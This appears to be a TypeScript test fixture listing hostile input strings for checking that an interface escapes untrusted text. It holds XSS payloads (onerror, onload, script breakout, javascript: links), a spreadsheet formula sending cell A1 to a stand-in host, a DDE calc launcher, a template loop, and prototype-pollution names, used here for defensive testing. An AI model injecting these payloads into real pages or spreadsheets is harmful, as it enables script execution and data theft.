/** Whatever of these becomes an element carries the class `pwned`; whatever of these runs sets `window.hacked`. */
export const hostileTexts = {
  image: '<img class=pwned src=x onerror="window.hacked=1">',
  script: '</textarea></title><script class=pwned>window.hacked=1</script>',
  vector: '"><svg class=pwned onload="window.hacked=1"><script>window.hacked=1</script></svg>',
  link: '<a class=pwned href="javascript:window.hacked=1">点我</a>',
  address: 'javascript:window.hacked=1//',
  markdown: '[点我](javascript:window.hacked=1) ![x](https://203.0.113.9/a.png) | `a`',
  style: '<style class=pwned>*{background:url(https://203.0.113.9/b.png)}</style>',
  frame: '<iframe class=pwned srcdoc="<script>parent.hacked=1</script>"></iframe>',
  formula: '=HYPERLINK("https://203.0.113.9/?"&A1,"点我")',
  command: "@SUM(1+1)*cmd|' /C calc'!A0",
  liquid: '{{ 昵称 | append: 群名 }}{% for i in (1..999999999) %}x{% endfor %}',
  prototype: '{{ constructor.constructor }}{{ 昵称.__proto__ }}',
  marks: '\u202E反着写\u2066藏起来\u200F',
  controls: '前\u0000中\u0007\u001B[31m后\uFFFE',
  surrogate: '半个\uD83D字\uDE00符',
  family: '👩‍👩‍👧‍👦👩🏽‍🔬🏳️‍🌈',
  long: '长'.repeat(60),
  longest: '名'.repeat(200),
  own: '__proto__',
  maker: 'constructor',
} as const;

export const everyText: readonly string[] = Object.values(hostileTexts);
/** Ids that name what every object inherits are ids like any others. */
const inheritedNames = ['__proto__', 'constructor', 'toString', 'hasOwnProperty'];

/** The id of the row of a number. */
export const idOf = (index: number) => inheritedNames[index] ?? `row-${index}`;
/** The text of a number, around and around. */
export const textAt = (index: number) => everyText[index % everyText.length] ?? '';
